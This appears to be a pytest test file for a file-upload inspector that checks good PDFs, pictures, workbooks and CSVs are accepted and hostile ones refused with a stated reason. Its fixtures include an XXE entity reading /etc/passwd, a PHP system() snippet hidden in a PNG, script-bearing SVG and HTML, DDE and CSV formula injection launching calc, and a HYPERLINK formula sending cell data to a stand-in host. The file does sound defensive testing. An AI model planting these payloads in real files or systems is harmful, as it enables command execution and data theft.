"""What is let in and what is not: each hostile file is refused for its own reason, each good one taken."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from portal.evidence.inspection.__main__ import inspect
from portal.evidence.inspection.verdicts import Limits, Media, Reason, Refused
from tests.evidence import files

Make = Callable[[], bytes]
LIMITS = Limits(max_pages=20, max_pixels=1_000_000)
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
ENTITIES = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
OLD_OFFICE = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(600)

GOOD: dict[str, tuple[str, Media, Make]] = {
    "pdf": ("pdf", Media.PDF, lambda: files.pdf(3)),
    "pdf with a note": ("pdf", Media.PDF, lambda: files.pdf(1, files.with_note)),
    "pdf with packed objects": ("pdf", Media.PDF, lambda: files.packed_pdf(files.with_note)),
    "jpeg": ("jpg", Media.JPEG, lambda: files.picture("JPEG")),
    "jpeg, other extension": ("jpeg", Media.JPEG, lambda: files.picture("JPEG")),
    "jpeg in four inks": ("jpg", Media.JPEG, lambda: files.picture("JPEG", mode="CMYK")),
    "jpeg with the telephone's own data behind": (
        "jpg",
        Media.JPEG,
        lambda: files.picture("JPEG") + b"SEFT" * 99,
    ),
    "png": ("png", Media.PNG, lambda: files.picture("PNG")),
    "png with a palette": ("png", Media.PNG, lambda: files.picture("PNG", mode="P")),
    "png in sixteen bits": ("png", Media.PNG, lambda: files.picture("PNG", mode="I;16")),
    "webp": ("webp", Media.WEBP, lambda: files.picture("WEBP")),
    "xlsx": ("xlsx", Media.XLSX, files.xlsx),
    "xlsx with a sum": ("xlsx", Media.XLSX, lambda: files.with_formula("SUM(B2:B8)&amp;&quot;|&quot;")),
    "csv": ("csv", Media.CSV, lambda: files.CSV),
    "csv of a Swedish spreadsheet": ("csv", Media.CSV, lambda: "År;Kväve\r\n2025;120\r\n".encode("cp1252")),
    "csv with a mark of UTF-8": ("csv", Media.CSV, lambda: b"\xef\xbb\xbf" + files.CSV),
    "csv with leading zeros": ("csv", Media.CSV, lambda: b'Artikel;Antal\n="00123";1\n"=""00123""";2\n'),
    "csv with telephone numbers": (
        "csv",
        Media.CSV,
        lambda: b"Namn;Tel;Saldo\nA;+46 70 (0)1;-1,5\nB;@gard;- lite\n",
    ),
}

REFUSED: dict[str, tuple[str, Reason, Make]] = {
    "nothing": ("pdf", Reason.EMPTY, lambda: b""),
    # the name says one thing, the content another
    "picture called pdf": ("pdf", Reason.MISMATCH, lambda: files.picture("JPEG")),
    "pdf called picture": ("jpg", Reason.MISMATCH, files.pdf),
    "png called jpg": ("jpg", Reason.MISMATCH, lambda: files.picture("PNG")),
    "archive called csv": ("csv", Reason.MISMATCH, files.xlsx),
    "gif called png": ("png", Reason.MISMATCH, lambda: files.picture("GIF")),
    "svg called png": ("png", Reason.MISMATCH, lambda: SVG),
    "svg called csv": ("csv", Reason.HIDDEN_FILE, lambda: b"a;b\n" + SVG),
    "html called csv": ("csv", Reason.MISMATCH, lambda: HTML),
    "html called pdf": ("pdf", Reason.MISMATCH, lambda: HTML),
    "old Office called xlsx": ("xlsx", Reason.MISMATCH, lambda: OLD_OFFICE),
    "program called csv": ("csv", Reason.NOT_TEXT, lambda: b"MZ\x90\0" + bytes(300)),
    "any archive called xlsx": ("xlsx", Reason.MISMATCH, lambda: files.zip_of(a=b"b")),
    "pdf that begins late": ("pdf", Reason.MISMATCH, lambda: b"\n" + files.pdf()),
    # two files in one
    "pdf and archive": ("pdf", Reason.HIDDEN_FILE, lambda: files.pdf() + files.zip_of(a=b"b")),
    "pdf and archive that ends like a pdf": (
        "pdf",
        Reason.HIDDEN_FILE,
        lambda: files.pdf() + files.zip_of(a=b"b")[:-2] + b"\x06\0\n%%EOF",
    ),
    "pdf and page": (
        "pdf",
        Reason.HIDDEN_FILE,
        lambda: files.pdf().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%" + HTML + b"\n"),
    ),
    "pdf with something behind": ("pdf", Reason.HIDDEN_FILE, lambda: files.pdf() + b"behind"),
    "jpeg and archive": ("jpg", Reason.HIDDEN_FILE, lambda: files.picture("JPEG") + files.zip_of(a=b"b")),
    "jpeg and page": ("jpg", Reason.HIDDEN_FILE, lambda: files.picture("JPEG") + HTML),
    "jpeg with a script in its comment": (
        "jpg",
        Reason.HIDDEN_FILE,
        lambda: files.picture("JPEG", comment=HTML),
    ),
    "png and script": ("png", Reason.HIDDEN_FILE, lambda: files.picture("PNG") + b"<?php system('ls'); ?>"),
    "png and pdf": ("png", Reason.HIDDEN_FILE, lambda: files.picture("PNG") + files.pdf()),
    "webp and archive": ("webp", Reason.HIDDEN_FILE, lambda: files.picture("WEBP") + files.zip_of(a=b"b")),
    "csv and pdf": ("csv", Reason.HIDDEN_FILE, lambda: b"a;b\n" + b"%PDF-1.4 ..."),
    "xlsx with something behind": ("xlsx", Reason.HIDDEN_FILE, lambda: files.xlsx() + HTML),
    "xlsx with entities": (
        "xlsx",
        Reason.HIDDEN_FILE,
        lambda: files.changed_archive(files.xlsx(), {"xl/x.xml": ENTITIES}),
    ),
    # PDF
    "pdf cut off": ("pdf", Reason.BROKEN, lambda: files.pdf()[:200]),
    "pdf in name only": ("pdf", Reason.BROKEN, lambda: b"%PDF-1.7\nhej\n%%EOF"),
    "pdf with a password": ("pdf", Reason.LOCKED, lambda: files.pdf(1, files.with_password)),
    "pdf with a script": ("pdf", Reason.PROGRAM, lambda: files.pdf(1, files.with_script)),
    "pdf with a packed script": ("pdf", Reason.PROGRAM, lambda: files.packed_pdf(files.with_script)),
    "pdf with a page's packed script": (
        "pdf",
        Reason.PROGRAM,
        lambda: files.packed_pdf(files.with_page_action),
    ),
    "pdf that starts a program": ("pdf", Reason.PROGRAM, lambda: files.pdf(1, files.with_launch)),
    "pdf that starts a program, packed": ("pdf", Reason.PROGRAM, lambda: files.packed_pdf(files.with_launch)),
    "pdf with its names spelt in numbers": (
        "pdf",
        Reason.PROGRAM,
        lambda: files.pdf(1, files.with_launch).replace(b"/Launch", b"/La#75nch"),
    ),
    "pdf with a form program": ("pdf", Reason.PROGRAM, lambda: files.packed_pdf(files.with_form_program)),
    "pdf with a file": ("pdf", Reason.ATTACHED_FILES, lambda: files.pdf(1, files.with_attachment)),
    "pdf with a packed list of files": (
        "pdf",
        Reason.ATTACHED_FILES,
        lambda: files.packed_pdf(files.with_attachment),
    ),
    "pdf of many pages": ("pdf", Reason.PAGES, lambda: files.pdf(21)),
    # pictures
    "png of four gigapixels": ("png", Reason.PIXELS, lambda: files.png_claiming(65_000, 65_000)),
    "png just over the limit": ("png", Reason.PIXELS, lambda: files.png_claiming(1001, 1000)),
    "jpeg over the limit": ("jpg", Reason.PIXELS, lambda: files.picture("JPEG", (1001, 1000))),
    "jpeg cut off": ("jpg", Reason.BROKEN, lambda: files.picture("JPEG", (400, 300))[:-600]),
    "png cut off": ("png", Reason.BROKEN, lambda: files.png_claiming(500, 500)),
    "moving webp": ("webp", Reason.MOVING, lambda: files.moving_picture("WEBP")),
    "moving png": ("png", Reason.MOVING, lambda: files.moving_picture("PNG")),
    # workbooks
    "xlsx cut off": ("xlsx", Reason.BROKEN, lambda: files.xlsx()[:-100]),
    "xlsx with macros": (
        "xlsx",
        Reason.MACROS,
        lambda: files.changed_archive(files.xlsx(), {"xl/vbaProject.bin": b"x"}),
    ),
    "xlsx of the kind with macros": ("xlsx", Reason.MACROS, files.macro_workbook),
    "xlsx with old macros": (
        "xlsx",
        Reason.MACROS,
        lambda: files.changed_archive(files.xlsx(), {"xl/macrosheets/sheet1.xml": b"<a/>"}),
    ),
    "xlsx with a link to a file": (
        "xlsx",
        Reason.LINKS,
        lambda: files.changed_archive(files.xlsx(), {"xl/externalLinks/externalLink1.xml": b"<a/>"}),
    ),
    "xlsx with a link in its relations": (
        "xlsx",
        Reason.LINKS,
        lambda: files.with_relation("image", "http://exempel.se/a"),
    ),
    "xlsx that fetches data": (
        "xlsx",
        Reason.LINKS,
        lambda: files.changed_archive(files.xlsx(), {"xl/connections.xml": b"<a/>"}),
    ),
    "xlsx with DDE": ("xlsx", Reason.LINKS, lambda: files.with_formula("cmd|&apos;/c calc&apos;!A0")),
    "xlsx that calls a web page": (
        "xlsx",
        Reason.LINKS,
        lambda: files.with_formula("_xlfn.WEBSERVICE(&quot;http://a&quot;)"),
    ),
    "xlsx with a file": (
        "xlsx",
        Reason.EMBEDDED,
        lambda: files.changed_archive(files.xlsx(), {"xl/embeddings/oleObject1.bin": b"x"}),
    ),
    "xlsx packed like a bomb": ("xlsx", Reason.PACKED, files.zip_bomb),
    "xlsx of too many parts": ("xlsx", Reason.PACKED, files.crowded_archive),
    "xlsx that lies about sizes": ("xlsx", Reason.BROKEN, files.lying_archive),
    # CSV
    "csv with a zero byte": ("csv", Reason.NOT_TEXT, lambda: b"a;b\n1;\0\n"),
    "csv in two bytes a letter": ("csv", Reason.NOT_TEXT, lambda: "a;b\n1;2\n".encode("utf-16")),
    "csv of blanks": ("csv", Reason.NOT_TEXT, lambda: b" \r\n \r\n"),
    "csv of one line": ("csv", Reason.LONG_LINE, lambda: b"1;" * 6000),
    "csv with a command": ("csv", Reason.FORMULAS, lambda: b"a;b\n1;=cmd|' /C calc'!A0\n"),
    "csv with a quoted command": (
        "csv",
        Reason.FORMULAS,
        lambda: b"a,b\n1,\"@SUM(1+1)*cmd|' /C calc'!A0\"\n",
    ),
    "csv with a minus and a command": ("csv", Reason.FORMULAS, lambda: b"a;b\n-2+3+cmd|' /C calc'!A0;1\n"),
    "csv with a link": ("csv", Reason.FORMULAS, lambda: b'a;b\n=HYPERLINK("http://a?"&A1);1\n'),
}


@pytest.mark.parametrize(("extension", "media", "make"), GOOD.values(), ids=GOOD)
def test_a_good_file_is_taken(extension: str, media: Media, make: Make) -> None:
    """What people have at hand is taken for what it is; only pictures are written anew."""
    found, instead = inspect(make(), extension, LIMITS)
    assert found is media
    assert (instead is not None) == (media in (Media.JPEG, Media.PNG, Media.WEBP))


@pytest.mark.parametrize(("extension", "reason", "make"), REFUSED.values(), ids=REFUSED)
def test_a_hostile_file_is_refused(extension: str, reason: Reason, make: Make) -> None:
    """Each is refused, and for the reason that its sender can do something about."""
    with pytest.raises(Refused) as refusal:
        inspect(make(), extension, LIMITS)
    assert refusal.value.reason is reason
